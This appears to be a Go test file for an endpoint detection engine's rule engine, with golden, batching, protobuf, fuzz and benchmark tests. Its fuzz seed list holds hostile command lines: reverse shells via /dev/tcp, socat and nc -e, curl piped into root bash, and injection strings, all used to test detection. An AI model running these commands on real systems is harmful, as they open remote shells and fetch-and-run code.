package detectors

import (
	"bufio"
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cordon-edr/cordon/protocol/ecs"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/findings")

var testClock = time.Date(2026, 11, 2, 10, 0, 5, 0, time.UTC)

// goldenFinding is one line of a golden file: the finding and the line
// of the events file that caused it.
type goldenFinding struct {
	Line    int     `json:"line"`
	Finding Finding `json:"finding"`
}

// TestGolden runs every testdata/events/NAME.jsonl through the built-in
// rules and compares the findings with testdata/findings/NAME.json. Run
// "go test ./detectors -update" to rewrite the golden files after a
// deliberate change, and review the diff.
func TestGolden(t *testing.T) {
	files, err := filepath.Glob(filepath.Join("testdata", "events", "*.jsonl"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no event files: %v", err)
	}
	for _, file := range files {
		name := strings.TrimSuffix(filepath.Base(file), ".jsonl")
		t.Run(name, func(t *testing.T) {
			e := NewEngine(Builtin()...)
			e.SetClock(func() time.Time { return testClock })
			got := []goldenFinding{}
			for i, ev := range readEvents(t, file) {
				for _, f := range e.Process(&ev) {
					got = append(got, goldenFinding{Line: i + 1, Finding: f})
				}
			}
			gotJSON, err := json.MarshalIndent(got, "", "  ")
			if err != nil {
				t.Fatal(err)
			}
			gotJSON = append(gotJSON, '\n')
			golden := filepath.Join("testdata", "findings", name+".json")
			if *update {
				if err := os.WriteFile(golden, gotJSON, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run with -update to create it)", err)
			}
			if !bytes.Equal(gotJSON, want) {
				t.Errorf("findings for %s differ from %s (run with -update and review the diff):\n%s", file, golden, gotJSON)
			}
			if name == "benign" && len(got) > 0 {
				t.Errorf("benign events fired %d findings", len(got))
			}
		})
	}
}

func readEvents(t testing.TB, file string) []ecs.Event {
	t.Helper()
	f, err := os.Open(file)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var evs []ecs.Event
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for n := 1; sc.Scan(); n++ {
		var ev ecs.Event
		dec := json.NewDecoder(bytes.NewReader(sc.Bytes()))
		dec.DisallowUnknownFields()
		if err := dec.Decode(&ev); err != nil {
			t.Fatalf("%s:%d: %v", file, n, err)
		}
		evs = append(evs, ev)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return evs
}

// fixed is a detector for engine tests.
type fixed struct {
	rule Rule
	f    Finding
	ok   bool
}

func (d fixed) Rule() Rule                        { return d.rule }
func (d fixed) Detect(*ecs.Event) (Finding, bool) { return d.f, d.ok }

func TestEngineFillsFindings(t *testing.T) {
	rule := Rule{ID: "r1", Name: "one", Version: "1", Severity: SeverityLow, Tactics: []string{"TA0002"}, Techniques: []string{"T1059"}}
	custom := Finding{Summary: "custom", Severity: SeverityHigh, Techniques: []string{"T1"},
		ObservedAt: time.Unix(100, 0).UTC(), Evidence: []ecs.Event{{Event: ecs.Meta{Category: "x"}}}}
	e := NewEngine(
		fixed{rule: rule, f: Finding{Summary: "plain"}, ok: true},
		fixed{rule: Rule{ID: "r2"}, ok: false},
		fixed{rule: Rule{ID: "r3", Severity: SeverityLow}, f: custom, ok: true},
	)
	e.SetClock(func() time.Time { return testClock })
	ev := startEvent("/usr/bin/true", "true")
	fs := e.Process(ev)
	if len(fs) != 2 {
		t.Fatalf("got %d findings, want 2", len(fs))
	}
	a, b := fs[0], fs[1]
	if a.Rule.ID != "r1" || a.Severity != SeverityLow || !slices.Equal(a.Tactics, rule.Tactics) ||
		!slices.Equal(a.Techniques, rule.Techniques) || a.Summary != "plain" ||
		!a.ObservedAt.Equal(ev.Timestamp) || !a.DetectedAt.Equal(testClock) || len(a.Evidence) != 1 {
		t.Errorf("defaults not filled: %+v", a)
	}
	if b.Rule.ID != "r3" || b.Severity != SeverityHigh || b.Tactics != nil || !slices.Equal(b.Techniques, []string{"T1"}) ||
		!b.ObservedAt.Equal(custom.ObservedAt) || b.Evidence[0].Event.Category != "x" {
		t.Errorf("detector's own fields overwritten: %+v", b)
	}

	// Evidence is a deep copy: the caller may reuse the event.
	ev.Process.Args[0] = "changed"
	ev.Process.PID = 1
	if got := a.Evidence[0].Process; got.Args[0] != "true" || got.PID != 4242 {
		t.Errorf("evidence shares memory with the event: %+v", got)
	}
	// Rules are copies too.
	e.Rules()[0].Tactics[0] = "changed"
	if e.Rules()[0].Tactics[0] != "TA0002" {
		t.Error("Rules returned shared slices")
	}

	// Without a timestamp, ObservedAt comes from the clock.
	ev.Timestamp = time.Time{}
	if got := e.Process(ev)[0].ObservedAt; !got.Equal(testClock) {
		t.Errorf("ObservedAt = %v, want clock %v", got, testClock)
	}
	if e.Process(nil) != nil {
		t.Error("nil event produced findings")
	}
}

// fixedBatch is a batch for engine tests: it matches the rules listed in
// hits.
type fixedBatch struct {
	rules []Rule
	hits  []int
}

func (b fixedBatch) Rules() []Rule { return b.rules }
func (b fixedBatch) DetectAll(_ *ecs.Event, dst []Match) []Match {
	for _, i := range b.hits {
		dst = append(dst, Match{Rule: i, Finding: Finding{Summary: b.rules[i].ID}})
	}
	return dst
}

func TestEngineBatch(t *testing.T) {
	e := NewEngine(fixed{rule: Rule{ID: "d1", Severity: SeverityLow}, f: Finding{Summary: "d1"}, ok: true})
	e.AddBatch(fixedBatch{
		rules: []Rule{{ID: "b0", Severity: SeverityHigh, Techniques: []string{"T1"}}, {ID: "b1"}, {ID: "b2", Severity: SeverityCritical}},
		hits:  []int{0, 2},
	})
	e.AddBatch(fixedBatch{rules: []Rule{{ID: "c0"}}})
	e.SetClock(func() time.Time { return testClock })
	var ids []string
	for _, r := range e.Rules() {
		ids = append(ids, r.ID)
	}
	if want := []string{"d1", "b0", "b1", "b2", "c0"}; !slices.Equal(ids, want) {
		t.Fatalf("Rules() = %v, want %v", ids, want)
	}
	for range 2 { // the match buffer is reused
		fs := e.Process(startEvent("/usr/bin/true", "true"))
		var got []string
		for _, f := range fs {
			got = append(got, f.Rule.ID+"/"+f.Summary+"/"+f.Severity)
		}
		if want := []string{"d1/d1/low", "b0/b0/high", "b2/b2/critical"}; !slices.Equal(got, want) {
			t.Fatalf("findings %v, want %v", got, want)
		}
		if !slices.Equal(fs[1].Techniques, []string{"T1"}) || len(fs[1].Evidence) != 1 || !fs[1].DetectedAt.Equal(testClock) {
			t.Errorf("batch finding not completed: %+v", fs[1])
		}
	}
}

func TestEngineRules(t *testing.T) {
	e := NewEngine(Builtin()...)
	var ids []string
	for _, r := range e.Rules() {
		ids = append(ids, r.ID)
	}
	want := []string{RuleIDExecFromTempDir, RuleIDShellToSocket, RuleIDDownloadToShell}
	if !slices.Equal(ids, want) {
		t.Errorf("Rules() ids = %v, want %v", ids, want)
	}
}

func TestFindingProto(t *testing.T) {
	e := NewEngine(Builtin()...)
	e.SetClock(func() time.Time { return testClock })
	fs := e.Process(startEvent("/dev/shm/x", "/dev/shm/x"))
	if len(fs) != 1 {
		t.Fatalf("got %d findings, want 1", len(fs))
	}
	const id = "019a4a3c-6a2e-7c1e-9d3f-0b1c2d3e4f50"
	p, err := fs[0].Proto(id)
	if err != nil {
		t.Fatal(err)
	}
	if p.GetId() != id || p.GetRule().GetId() != RuleIDExecFromTempDir || p.GetRule().GetAuthor() != "Cordon" ||
		p.GetSeverity() != SeverityHigh || !slices.Equal(p.GetTechniques(), fs[0].Techniques) ||
		p.GetSummary() != fs[0].Summary || p.GetDetectedUnixNano() != testClock.UnixNano() ||
		p.GetObservedUnixNano() != fs[0].ObservedAt.UnixNano() || p.GetDrill() {
		t.Errorf("proto = %v", p)
	}
	var evidence []ecs.Event
	if err := json.Unmarshal(p.GetEvidenceJson(), &evidence); err != nil || len(evidence) != 1 ||
		evidence[0].Process.Executable != "/dev/shm/x" {
		t.Errorf("evidence %s: %v", p.GetEvidenceJson(), err)
	}
	if _, err := fs[0].Proto(""); err == nil {
		t.Error("Proto accepted an empty id")
	}
}

func FuzzEngineProcess(f *testing.F) {
	for _, s := range []string{
		"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
		"sh -c 'curl -s http://x | sudo -u root bash -s'",
		"0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196",
		"socat exec:'bash -li',pty tcp:h:1",
		"nc -e/bin/sh h 1",
		"bash <(curl x) $( ` ) ( | ;; &>",
		"${IFS}$IFS$9'\"\\",
	} {
		f.Add("/usr/bin/bash", s)
	}
	e := NewEngine(Builtin()...)
	f.Fuzz(func(t *testing.T, exe, cmdline string) {
		for _, fd := range e.Process(startEvent(exe, cmdline)) {
			if fd.Summary == "" || fd.Rule.ID == "" {
				t.Fatalf("incomplete finding %+v", fd)
			}
		}
	})
}

// BenchmarkEngineProcess runs the built-in rules over the golden events,
// most of which do not match, like real process start streams.
func BenchmarkEngineProcess(b *testing.B) {
	files, _ := filepath.Glob(filepath.Join("testdata", "events", "*.jsonl"))
	var evs []ecs.Event
	for _, f := range files {
		evs = append(evs, readEvents(b, f)...)
	}
	// Common benign process starts dominate real streams.
	for _, c := range []string{
		"/usr/bin/ls --color=auto -la", "/usr/bin/git status", "sh -c ps -eo pid,comm | grep nginx",
		"/usr/lib/systemd/systemd-journald", "python3 /opt/app/manage.py runserver 0.0.0.0:8000",
	} {
		evs = append(evs, *startEvent("/usr/bin/"+strings.Fields(c)[0], c))
	}
	e := NewEngine(Builtin()...)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; b.Loop(); i++ {
		e.Process(&evs[i%len(evs)])
	}
}

func TestEngineReplaceBatch(t *testing.T) {
	e := NewEngine(fixed{rule: Rule{ID: "d1"}, f: Finding{Summary: "d1"}, ok: true})
	first := e.AddBatch(fixedBatch{rules: []Rule{{ID: "b0"}, {ID: "b1"}}, hits: []int{1}})
	e.AddBatch(fixedBatch{rules: []Rule{{ID: "c0"}}, hits: []int{0}})
	process := func() []string {
		var got []string
		for _, f := range e.Process(startEvent("/usr/bin/true", "true")) {
			got = append(got, f.Rule.ID)
		}
		return got
	}
	if got, want := process(), []string{"d1", "b1", "c0"}; !slices.Equal(got, want) {
		t.Fatalf("before: %v, want %v", got, want)
	}
	if err := e.ReplaceBatch(first, fixedBatch{rules: []Rule{{ID: "n0"}, {ID: "n1"}, {ID: "n2"}}, hits: []int{0, 2}}); err != nil {
		t.Fatal(err)
	}
	// The rules after the replaced batch keep their own metadata.
	if got, want := process(), []string{"d1", "n0", "n2", "c0"}; !slices.Equal(got, want) {
		t.Errorf("after: %v, want %v", got, want)
	}
	var ids []string
	for _, r := range e.Rules() {
		ids = append(ids, r.ID)
	}
	if want := []string{"d1", "n0", "n1", "n2", "c0"}; !slices.Equal(ids, want) {
		t.Errorf("Rules() = %v, want %v", ids, want)
	}
	if err := e.ReplaceBatch(BatchID(0), fixedBatch{}); err == nil {
		t.Error("replacing a detector as if it were a batch succeeded")
	}
}
